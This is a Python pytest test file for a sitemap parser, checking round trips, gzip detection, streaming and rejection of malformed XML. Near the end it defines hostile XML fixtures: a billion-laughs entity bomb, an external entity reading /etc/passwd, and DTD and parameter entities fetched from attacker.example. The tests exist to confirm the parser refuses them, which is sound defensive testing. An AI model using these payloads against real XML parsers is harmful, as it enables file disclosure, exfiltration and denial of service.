"""parse_sitemap and parse_sitemap_index: round trips, gzip, streaming and safety."""

from __future__ import annotations

import gzip
import io
from datetime import date, datetime, timedelta, timezone
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from microroutes.sitemap import (
    Image,
    IndexEntry,
    News,
    SitemapError,
    Url,
    Video,
    iter_sitemap,
    iter_sitemap_index,
    normalise_url,
    parse_sitemap,
    parse_sitemap_index,
)

HOST = "https://example.com"
URLSET = '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'


def written(urls: list[Any], hostname: str | None = HOST) -> bytes:
    return b"".join(iter_sitemap(urls, hostname))


def round_trip(urls: list[Any], hostname: str | None = HOST) -> None:
    parsed = list(parse_sitemap(io.BytesIO(written(urls, hostname))))
    assert parsed == [normalise_url(url, hostname) for url in urls]


def test_every_field_survives_a_round_trip() -> None:
    urls: list[Any] = [
        Url("/", date(2024, 1, 2), "daily", 1),
        Url("/in-a-gap", datetime(2024, 3, 31, 2, 30, tzinfo=ZoneInfo("Europe/Paris"))),
        "/plain path/é",
        {"loc": "/m?a=1&b='2'", "lastmod": "2024-03-04T05:06:07.25+02:00", "priority": "0.3"},
        Url(
            "/gallery",
            datetime(2024, 5, 6, 7, 8, 9),
            "Weekly",
            0.5,
            images=["/a.jpg", {"loc": "//cdn.example.org/b.png", "title": " B ", "caption": "<b>"}],
        ),
        Url(
            "/watch",
            videos=[
                Video(
                    "/t.jpg",
                    "Title & more",
                    "Line one\r\nline two\ttabbed  ",
                    content_loc="/v.mp4",
                    player_loc="/p",
                    duration=61,
                    expiration_date="2030-01-01",
                    rating=4,
                    view_count=0,
                    publication_date=datetime(2024, 1, 1, tzinfo=timezone(timedelta(hours=9))),
                    tags=("a", "b"),
                    family_friendly=False,
                    restriction=["us", "GB"],
                    restriction_relationship="deny",
                    requires_subscription=True,
                    uploader="Up",
                    uploader_info="/u",
                    platform="web tv",
                    live=True,
                ),
                {"thumbnail_loc": "/t2.jpg", "title": "T", "description": "D", "player_loc": "/p2"},
            ],
            news=News("Times", "zh-CN", "2024-06-01T10:00:00Z", "Headline"),
            alternates={"en": "/watch", "x-default": "https://example.com/watch"},
        ),
    ]
    round_trip(urls)


def test_normalised_values_are_what_parsing_gives() -> None:
    url = normalise_url(
        {"loc": "/a b", "lastmod": "2024-01-02T03:04Z", "changefreq": "DAILY", "priority": 1},
        "example.com",
    )
    assert url == Url(
        "https://example.com/a%20b",
        datetime(2024, 1, 2, 3, 4, tzinfo=timezone.utc),
        "daily",
        1.0,
    )


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.builds(
            Url,
            # "//..." would be a network-path reference, on another host
            loc=st.text(max_size=40).filter(lambda text: not text.startswith("/")).map("/".__add__),
            lastmod=st.none()
            | st.dates()
            | st.datetimes(timezones=st.none() | st.timezones() | st.just(timezone.utc)),
            changefreq=st.none() | st.sampled_from(["always", "Hourly", "never"]),
            priority=st.none() | st.floats(min_value=0.0, max_value=1.0),
            images=st.lists(
                st.builds(
                    Image,
                    loc=st.text(min_size=1, max_size=20).map(lambda text: "/i/" + text),
                    title=st.none() | st.text(max_size=30),
                    caption=st.none() | st.text(max_size=30),
                ),
                max_size=3,
            ),
        ),
        max_size=5,
    )
)
def test_round_trip_of_arbitrary_entries(urls: list[Url]) -> None:
    round_trip(urls)


def test_gzip_input_is_detected() -> None:
    urls = [f"/p/{number}" for number in range(2000)]
    packed = gzip.compress(written(urls))
    parsed = list(parse_sitemap(io.BytesIO(packed)))
    assert [url.loc for url in parsed] == [
        f"https://example.com/p/{number}" for number in range(2000)
    ]
    two_members = gzip.compress(written(urls)[:100]) + gzip.compress(written(urls)[100:])
    assert len(list(parse_sitemap(two_members))) == 2000


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (gzip.compress(b"<urlset/>", mtime=0)[:-6], "truncated"),
        (b"\x1f\x8b" + b"\x00" * 30, "damaged"),
        (gzip.compress(f"{URLSET}</urlset>".encode(), mtime=0) + b"junk", "after the gzip stream"),
    ],
    ids=["truncated", "damaged", "trailing junk"],
)
def test_broken_gzip_is_refused(data: bytes, reason: str) -> None:
    with pytest.raises(SitemapError, match=reason):
        list(parse_sitemap(data))


class CountingReader(io.BytesIO):
    """A file that remembers how many bytes were read from it."""

    def __init__(self, data: bytes) -> None:
        super().__init__(data)
        self.bytes_read = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.bytes_read += len(data)
        return data


def test_parsing_streams() -> None:
    data = written([f"/p/{number}" for number in range(20_000)])
    reader = CountingReader(data)
    entries = parse_sitemap(reader)
    assert next(entries).loc == "https://example.com/p/0"
    assert reader.bytes_read < len(data) / 10
    assert sum(1 for _ in entries) == 19_999


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&lol3;</loc></url></urlset>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&secret;</loc></url></urlset>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE urlset SYSTEM "http://attacker.example/evil.dtd">
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"></urlset>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote;]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"></urlset>"""


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY]
)
def test_doctype_and_entities_are_refused(document: bytes) -> None:
    with pytest.raises(SitemapError, match="DOCTYPE and entity declarations are not allowed"):
        list(parse_sitemap(document))
    with pytest.raises(SitemapError, match="not allowed"):
        list(parse_sitemap(gzip.compress(document)))
    with pytest.raises(SitemapError, match="not allowed"):
        list(parse_sitemap_index(document))


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (b"", "not well-formed XML: no element found"),
        (f"{URLSET}<url><loc>&undefined;</loc></url></urlset>".encode(), "undefined entity"),
        (f"{URLSET}<url><loc>https://example.com/a</loc></url>".encode(), "not well-formed"),
        (b"<rss/>", "the document element is <rss>, not <urlset>"),
        (
            b'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>',
            "read it with parse_sitemap_index",
        ),
        (f"{URLSET}<url><lastmod>2024-01-01</lastmod></url></urlset>".encode(), "has no <loc>"),
        (
            f"{URLSET}<url><loc>https://example.com/a</loc><priority>2</priority></url>"
            "</urlset>".encode(),
            "entry 0 ('https://example.com/a'): priority '2' is outside 0.0-1.0",
        ),
    ],
)
def test_malformed_or_invalid_documents_are_refused(document: bytes, reason: str) -> None:
    with pytest.raises(SitemapError, match=reason.replace("(", r"\(").replace(")", r"\)")):
        list(parse_sitemap(document))


def test_foreign_elements_spaces_and_a_missing_namespace_are_tolerated() -> None:
    document = b"""<?xml version="1.0"?>
    <urlset xmlns:x="urn:example:other">
      <x:meta>ignored <x:deep>too</x:deep></x:meta>
      <url>
        <loc>
          https://example.com/a
        </loc>
        <x:extra><loc>https://example.com/not-this</loc></x:extra>
        <priority> 0.5 </priority>
      </url>
    </urlset>"""
    assert list(parse_sitemap(document)) == [Url("https://example.com/a", priority=0.5)]


def test_index_round_trip() -> None:
    entries: list[Any] = [
        "https://example.com/sitemap-1.xml",
        ("https://example.com/sitemap-2.xml.gz", date(2024, 1, 2)),
        IndexEntry("https://example.com/s 3.xml", datetime(2024, 1, 3, 4, 5)),
    ]
    data = b"".join(iter_sitemap_index(entries))
    assert list(parse_sitemap_index(io.BytesIO(gzip.compress(data)))) == [
        IndexEntry("https://example.com/sitemap-1.xml"),
        IndexEntry("https://example.com/sitemap-2.xml.gz", date(2024, 1, 2)),
        IndexEntry(
            "https://example.com/s%203.xml", datetime(2024, 1, 3, 4, 5, tzinfo=timezone.utc)
        ),
    ]
    with pytest.raises(SitemapError, match=r"read it with parse_sitemap$"):
        list(parse_sitemap_index(written(["/a"])))
